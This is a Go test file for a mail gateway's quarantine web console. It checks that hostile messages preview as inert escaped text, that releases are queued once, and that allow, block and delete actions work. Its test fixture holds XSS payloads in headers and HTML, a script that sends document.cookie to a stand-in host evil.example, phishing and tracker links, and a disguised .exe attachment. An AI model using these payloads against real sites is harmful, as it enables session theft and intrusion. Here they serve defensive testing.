package console

import (
	"context"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mailgate/mailgate/stages"
	"github.com/mailgate/mailgate/state"
	"github.com/mailgate/mailgate/state/trace"
)

// hostileMessage is a message whose every part tries to run or load
// something in the page that shows it.
const hostileMessage = "From: \"Eve <script>alert('from')</script>\" <eve@bad.example>\r\n" +
	"To: bob@example.test\r\n" +
	"Subject: =?UTF-8?B?" + "PHNjcmlwdD5hbGVydCgnc3ViamVjdCcpPC9zY3JpcHQ+IFdpbiE=" + "?=\r\n" + // <script>alert('subject')</script> Win!
	"X-Evil: <img src=https://tracker.example/pixel.gif onerror=alert('header')>\r\n" +
	"MIME-Version: 1.0\r\n" +
	"Content-Type: multipart/mixed; boundary=b1\r\n" +
	"\r\n" +
	"--b1\r\n" +
	"Content-Type: text/html; charset=utf-8\r\n" +
	"\r\n" +
	"<html><head><style>body{display:none}</style><script>alert('head')</script></head><body>" +
	"<p>Dear winner,</p><img src=\"https://tracker.example/open.gif\"><script>document.location='https://evil.example/'+document.cookie</script>" +
	"<p>Claim <a href=\"https://phish.example/login\">your prize</a> now.</p>" +
	"<iframe src=\"https://evil.example/frame\"></iframe><form action=\"https://evil.example/post\"><input name=x></form></body></html>\r\n" +
	"--b1\r\n" +
	"Content-Type: application/octet-stream; name=\"invoice.pdf.exe\"\r\n" +
	"Content-Disposition: attachment; filename=\"invoice.pdf.exe\"\r\n" +
	"Content-Transfer-Encoding: base64\r\n" +
	"\r\n" +
	"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==\r\n" +
	"--b1--\r\n"

// quarantined puts a message into the test quarantine, held by score
// unless an edit says otherwise.
func (e *testEnv) quarantined(from string, rcpts []string, msg string, at time.Time, edits ...func(*state.QuarantineRecord)) *state.QuarantineRecord {
	e.t.Helper()
	w, err := e.backend.spool.Create()
	if err != nil {
		e.t.Fatal(err)
	}
	io.WriteString(w, msg)
	if err := w.Flush(); err != nil {
		e.t.Fatal(err)
	}
	rec := &state.QuarantineRecord{ID: w.ID(), From: from, Rcpts: rcpts, Time: at, Score: 12, Stage: "spam",
		Reason: "score 12 reached quarantine_score 10", ByScore: true, ClientAddr: "192.0.2.66", ClientHelo: "bad.example",
		Verdicts: []trace.Stage{{Name: "spam", Kind: "spam", Phase: "data", Action: stages.Quarantine, Score: 12, Result: "spam", DurationMS: 4}}}
	for _, f := range edits {
		f(rec)
	}
	if err := e.backend.quar.Add(context.Background(), rec, w.Path()); err != nil {
		e.t.Fatal(err)
	}
	w.Abort()
	return rec
}

// TestQuarantinePreviewIsInert: a hostile message is shown as text: no
// markup of its own reaches the page, its links are written out, its
// images are not loaded, its attachment is named only.
func TestQuarantinePreviewIsInert(t *testing.T) {
	e := newTestEnv(t, "")
	rec := e.quarantined("eve@bad.example", []string{"bob@example.test"}, hostileMessage, time.Now())
	b := e.browser()
	b.login("admin")
	list := b.get("/quarantine")
	if list.code != http.StatusOK || !strings.Contains(list.body, "&lt;script&gt;alert(&#39;subject&#39;)&lt;/script&gt; Win!") {
		t.Fatalf("list: %d, subject not shown escaped\n%s", list.code, list.body)
	}
	r := b.get("/quarantine/" + rec.ID)
	if r.code != http.StatusOK {
		t.Fatalf("%d\n%s", r.code, r.body)
	}
	for _, bad := range []string{"<script>", "<img", "<iframe", "<style", "tracker.example/open.gif", "document.cookie", "<form action=\"https"} {
		if strings.Contains(r.body, bad) {
			t.Errorf("page has %q", bad)
		}
	}
	for _, want := range []string{"Dear winner,", "Claim your prize [https://phish.example/login] now.", "[image]",
		"invoice.pdf.exe", "application/octet-stream", "(from its HTML", "&lt;img src=https://tracker.example/pixel.gif onerror=alert(&#39;header&#39;)&gt;",
		"Eve &lt;script&gt;alert(&#39;from&#39;)&lt;/script&gt;"} {
		if !strings.Contains(r.body, want) {
			t.Errorf("page lacks %q", want)
		}
	}
	// The .eml is a download, never a page.
	eml := b.get("/quarantine/" + rec.ID + "/eml")
	if eml.code != http.StatusOK || eml.body != hostileMessage || eml.h.Get("Content-Type") != "application/octet-stream" ||
		!strings.HasPrefix(eml.h.Get("Content-Disposition"), "attachment;") {
		t.Fatalf("eml: %d %q %q", eml.code, eml.h.Get("Content-Type"), eml.h.Get("Content-Disposition"))
	}
}

// TestQuarantineReleaseOnce: a release queues one copy; the second,
// from the same page in another browser, is refused with 409 and says
// so; some recipients can be released apart.
func TestQuarantineReleaseOnce(t *testing.T) {
	e := newTestEnv(t, "")
	one := e.quarantined("a@good.example", []string{"bob@example.test"}, "Subject: one\r\n\r\nhi\r\n", time.Now())
	two := e.quarantined("a@good.example", []string{"bob@example.test", "carol@example.test"}, "Subject: two\r\n\r\nhi\r\n", time.Now())
	b1, b2 := e.browser(), e.browser()
	t1, t2 := b1.login("admin"), b2.login("admin")
	r := b1.post("/quarantine/"+one.ID+"/release", url.Values{"csrf": {t1}})
	if r.code != http.StatusOK || !strings.Contains(r.body, "Released "+one.ID+": queued as ") {
		t.Fatalf("release: %d\n%s", r.code, r.body)
	}
	r = b2.post("/quarantine/"+one.ID+"/release", url.Values{"csrf": {t2}})
	if r.code != http.StatusConflict || !strings.Contains(r.body, "released already") {
		t.Fatalf("second release: %d\n%s", r.code, r.body)
	}
	r = b1.post("/quarantine/"+two.ID+"/release", url.Values{"csrf": {t1}, "rcpt": {"carol@example.test"}})
	if r.code != http.StatusOK || !strings.Contains(r.body, "for carol@example.test") {
		t.Fatalf("release to carol: %d\n%s", r.code, r.body)
	}
	got, _ := e.backend.quar.Get(context.Background(), two.ID)
	if strings.Join(got.Pending(), ",") != "bob@example.test" {
		t.Fatalf("pending %v, want bob", got.Pending())
	}
	if list, _ := e.backend.spool.List(); len(list) != 2 {
		t.Fatalf("%d copies queued, want 2", len(list))
	}
	entries, err := e.c.opts.Audit.Entries(context.Background(), state.AuditFilter{Action: "quarantine.release"})
	if err != nil || len(entries) != 2 || entries[0].Actor != "console:admin" {
		t.Fatalf("audit: %+v %v", entries, err)
	}
}

// TestQuarantineAllowBlockDelete: allowing a sender from a quarantined
// message lists it for each recipient, blocking takes it off the
// allow-list, and delete removes the message; in bulk as one by one.
func TestQuarantineAllowBlockDelete(t *testing.T) {
	e := newTestEnv(t, "")
	rec := e.quarantined("news@shop.example", []string{"bob@example.test", "carol@example.test"}, "Subject: sale\r\n\r\nhi\r\n", time.Now())
	other := e.quarantined("x@spam.example", []string{"bob@example.test"}, "Subject: spam\r\n\r\nhi\r\n", time.Now())
	b := e.browser()
	tok := b.login("admin")
	if r := b.post("/quarantine/"+rec.ID+"/allow", url.Values{"csrf": {tok}}); r.code != http.StatusOK {
		t.Fatalf("allow: %d\n%s", r.code, r.body)
	}
	entries, _ := e.c.opts.Lists.Entries(context.Background(), "")
	if len(entries) != 2 || entries[0].Kind != state.Allow || entries[0].Sender != "news@shop.example" || entries[0].By != "console:admin" {
		t.Fatalf("entries %+v", entries)
	}
	r := b.post("/quarantine/bulk", url.Values{"csrf": {tok}, "op": {"block"}, "id": {rec.ID}})
	if r.code != http.StatusOK {
		t.Fatalf("bulk block: %d\n%s", r.code, r.body)
	}
	entries, _ = e.c.opts.Lists.Entries(context.Background(), "")
	if len(entries) != 2 || entries[0].Kind != state.Block || entries[1].Kind != state.Block {
		t.Fatalf("after block: %+v", entries)
	}
	r = b.post("/quarantine/bulk", url.Values{"csrf": {tok}, "op": {"delete"}, "id": {rec.ID, other.ID, "NOSUCH000001"}})
	if r.code != http.StatusOK || !strings.Contains(r.body, "Deleted "+rec.ID) || !strings.Contains(r.body, "NOSUCH000001: no such message") {
		t.Fatalf("bulk delete: %d\n%s", r.code, r.body)
	}
	if left, _ := e.backend.quar.List(context.Background(), state.Filter{}, time.Now()); len(left) != 0 {
		t.Fatalf("%d left after delete", len(left))
	}
	if r := b.get("/lists?owner=carol@example.test"); !strings.Contains(r.body, "news@shop.example") || strings.Contains(r.body, "bob@example.test") {
		t.Errorf("carol's lists page:\n%s", r.body)
	}
}

// TestReleaseChosenOnce: recipients an admin checks are counted once
// however spelt: rcpt=bob&rcpt=BOB on a message to bob and carol releases
// it to bob alone.
func TestReleaseChosenOnce(t *testing.T) {
	e := newTestEnv(t, "")
	rec := e.quarantined("a@shop.example", []string{"bob@example.test", "carol@example.test"}, "Subject: both\r\n\r\nhi\r\n", time.Now())
	b := e.browser()
	tok := b.login("admin")
	r := b.post("/quarantine/"+rec.ID+"/release", url.Values{"csrf": {tok}, "rcpt": {"bob@example.test", "BOB@example.test"}})
	if r.code != http.StatusOK {
		t.Fatalf("release: %d\n%s", r.code, r.body)
	}
	list, _ := e.backend.spool.List()
	if len(list) != 1 || len(list[0].Rcpts) != 1 || list[0].Rcpts[0].Addr != "bob@example.test" {
		t.Fatalf("queued %+v, want one copy for bob alone", list)
	}
	if got, _ := e.backend.quar.Get(context.Background(), rec.ID); !slices.Equal(got.Pending(), []string{"carol@example.test"}) {
		t.Errorf("still held for %v, want carol", got.Pending())
	}
}
